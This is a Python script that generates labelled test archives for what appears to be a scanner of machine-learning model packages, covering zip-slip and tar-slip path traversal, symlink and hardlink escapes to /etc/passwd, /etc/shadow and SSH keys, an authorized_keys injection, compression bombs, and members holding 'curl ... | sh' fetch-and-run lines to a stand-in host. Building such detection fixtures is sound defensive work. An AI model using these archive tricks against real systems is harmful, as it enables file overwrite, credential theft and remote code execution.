#!/usr/bin/python3
"""Write the archive-escape fixtures in testdata/archives with Python's own
zipfile and tarfile (what users and loaders unpack with), the zstd and 7z
command-line tools, and LABELS.tsv: file, expected rule ("-" for none at
medium or above), lowest acceptable severity.

Run from the repository root: /usr/bin/python3 scripts/gen_archives.py
"""
import bz2
import gzip
import io
import os
import subprocess
import tarfile
import tempfile
import zipfile

OUT = "testdata/archives"
# A benign pickle (a dict of floats), so members have model content.
PICKLE = b"\x80\x02}q\x00X\x01\x00\x00\x00wq\x01G?\xf0\x00\x00\x00\x00\x00\x00s."
labels = []


def zip_with(name, members, label):
    """members: (ZipInfo or name, data) pairs."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for info, data in members:
            if isinstance(info, str):
                info = zipfile.ZipInfo(info, date_time=(2024, 1, 1, 0, 0, 0))
            z.writestr(info, data)
    write(name, buf.getvalue(), label)


def symlink_info(name, mode=0o120777):
    info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
    info.create_system = 3  # Unix
    info.external_attr = mode << 16
    return info


def tar_with(name, members, label, mode="w"):
    """members: (TarInfo, data or None) pairs."""
    buf = io.BytesIO()
    # gzip headers carry a timestamp: write it as 0 so output is reproducible.
    gz = gzip.GzipFile(fileobj=buf, mode="wb", mtime=0) if mode == "w:gz" else None
    with tarfile.open(fileobj=gz or buf, mode="w" if gz else mode, format=tarfile.PAX_FORMAT) as t:
        for info, data in members:
            info.mtime = 1704067200
            if data is not None:
                info.size = len(data)
                t.addfile(info, io.BytesIO(data))
            else:
                t.addfile(info)
    if gz:
        gz.close()
    write(name, buf.getvalue(), label)


def reg(name):
    return tarfile.TarInfo(name)


def link(name, target, kind):
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = target
    return info


def write(name, data, label):
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(data)
    labels.append((name,) + label)


CLEAN = ("-", "-")

# Benign: what real tools write for a model folder.
zip_with("benign_model.zip", [("model/weights.pkl", PICKLE), ("model/README.md", b"# model\n")], CLEAN)
zip_with("benign_internal_symlink.zip", [("model/weights.pkl", PICKLE), (symlink_info("model/latest.pkl"), b"weights.pkl")], CLEAN)
tar_with("benign_model.tar", [(reg("model/weights.pkl"), PICKLE), (link("model/latest.pkl", "weights.pkl", tarfile.SYMTYPE), None),
                              (link("model/copy.pkl", "model/weights.pkl", tarfile.LNKTYPE), None)], CLEAN)
tar_with("benign_model.tar.bz2", [(reg("model/weights.pkl"), PICKLE)], CLEAN, mode="w:bz2")

# Path traversal and absolute names.
zip_with("zipslip_dotdot.zip", [("../../../../tmp/evil.sh", b"#!/bin/sh\nid\n")], ("MW205", "high"))
zip_with("zipslip_absolute.zip", [("/etc/cron.d/evil", b"* * * * * root id\n")], ("MW205", "high"))
zip_with("zipslip_backslash.zip", [("model\\..\\..\\evil.dll", b"MZ")], ("MW205", "high"))
zip_with("zipslip_drive.zip", [("C:/Windows/System32/evil.dll", b"MZ")], ("MW205", "high"))
tar_with("tarslip_dotdot.tar", [(reg("model/../../../root/.bashrc"), b"curl evil | sh\n")], ("MW205", "high"))
tar_with("tarslip_absolute.tar.gz", [(reg("/etc/profile.d/evil.sh"), b"id\n")], ("MW205", "high"), mode="w:gz")

# Links that escape.
zip_with("zip_symlink_escape.zip", [(symlink_info("model/weights.pkl"), b"../../../../home/user/.ssh/id_rsa")], ("MW206", "high"))
zip_with("zip_symlink_absolute.zip", [(symlink_info("model/config.json"), b"/etc/passwd")], ("MW206", "high"))
tar_with("tar_symlink_absolute.tar", [(link("model/weights", "/home/user/.ssh", tarfile.SYMTYPE), None),
                                      (reg("model/weights/authorized_keys"), b"ssh-ed25519 AAAA attacker\n")], ("MW206", "high"))
tar_with("tar_symlink_dotdot.tar.xz", [(link("model/data", "../../../../etc", tarfile.SYMTYPE), None)], ("MW206", "high"), mode="w:xz")
tar_with("tar_hardlink_escape.tar", [(link("model/passwd", "../../etc/passwd", tarfile.LNKTYPE), None)], ("MW206", "high"))
tar_with("tar_hardlink_absolute.tar", [(link("model/shadow", "/etc/shadow", tarfile.LNKTYPE), None)], ("MW206", "high"))

# Programs travelling inside model archives.
import struct
ELF = b"\x7fELF" + bytes([2, 1, 1, 0]) + bytes(8) + struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0x1000, 64, 0, 0, 64, 56, 1, 64, 0, 0)
zip_with("zip_elf_member.zip", [("model/weights.pkl", PICKLE), ("model/libcustom_op.so", ELF + bytes(256))], ("MW107", "high"))
tar_with("tar_script_member.tar.gz", [(reg("model/weights.pkl"), PICKLE), (reg("model/postinstall"), b"#!/bin/sh\ncurl -s http://evil.example/x | sh\n")],
         ("MW107", "high"), mode="w:gz")

# Links that escape only through each other: "up" points at the folder
# itself, and "pw" climbs out through it once both exist on disk.
deep = "a/b/c/d"
zip_with("zip_symlink_relay.zip", [(symlink_info(deep + "/up"), b"../../../.."),
                                   (symlink_info("pw"), (deep + "/up/../../../../etc/passwd").encode())], ("MW206", "high"))
tar_with("tar_symlink_relay.tar", [(link(deep + "/up", "../../../..", tarfile.SYMTYPE), None),
                                   (link("pw", deep + "/up/../../../../etc/passwd", tarfile.SYMTYPE), None)], ("MW206", "high"))
zip_with("zipslip_directory.zip", [("../../../../tmp/evil_dir/", b"")], ("MW205", "high"))

# Compression bombs: bzip2 turns runs of zeros into almost nothing.
write("bomb.bin.bz2", bz2.compress(b"\0" * (64 << 20), 9), ("MW207", "high"))
tar_with("bomb_member.tar.bz2", [(reg("model/zeros.bin"), b"\0" * (64 << 20))], ("MW207", "high"), mode="w:bz2")

with tempfile.TemporaryDirectory() as tmp:
    # zstd-compressed tar: the tarball of a model folder, and one with a traversal.
    for name, members, label in [("benign_model.tar.zst", [(reg("model/weights.pkl"), PICKLE)], CLEAN),
                                 ("tarslip.tar.zst", [(reg("../../evil.pkl"), PICKLE)], ("MW205", "high"))]:
        plain = os.path.join(tmp, "x.tar")
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as t:
            for info, data in members:
                info.mtime, info.size = 1704067200, len(data)
                t.addfile(info, io.BytesIO(data))
        open(plain, "wb").write(buf.getvalue())
        subprocess.run(["zstd", "-q", "-f", "-19", plain, "-o", os.path.join(OUT, name)], check=True)
        labels.append((name,) + label)
    # 7z keeps symbolic links with -snl.
    src = os.path.join(tmp, "model")
    os.mkdir(src)
    open(os.path.join(src, "weights.pkl"), "wb").write(PICKLE)
    os.symlink("/etc/passwd", os.path.join(src, "config.json"))
    out = os.path.join(os.path.abspath(OUT), "7z_symlink_absolute.7z")
    if os.path.exists(out):
        os.remove(out)
    subprocess.run(["7z", "a", "-bd", "-snl", "-mtm=off", "-mtc=off", "-mta=off", out, "model"], cwd=tmp, check=True, stdout=subprocess.DEVNULL)
    labels.append(("7z_symlink_absolute.7z", "MW206", "high"))

with open(os.path.join(OUT, "LABELS.tsv"), "w") as f:
    f.write("# file\texpected rule (- for no finding at medium or above)\tlowest severity\n")
    for row in sorted(labels):
        f.write("\t".join(row) + "\n")
